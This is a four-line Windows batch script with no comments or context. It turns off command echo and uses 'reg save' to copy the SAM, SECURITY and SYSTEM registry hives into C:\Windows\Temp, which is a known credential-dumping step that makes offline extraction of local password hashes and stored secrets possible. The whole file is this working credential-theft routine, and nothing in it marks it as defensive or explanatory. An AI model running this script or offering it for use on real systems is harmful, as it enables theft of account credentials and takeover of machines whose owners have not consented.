@echo off
reg save HKLM\SAM C:\Windows\Temp\sam.save /y
reg save HKLM\SECURITY C:\Windows\Temp\security.save /y
reg save HKLM\SYSTEM C:\Windows\Temp\system.save /y
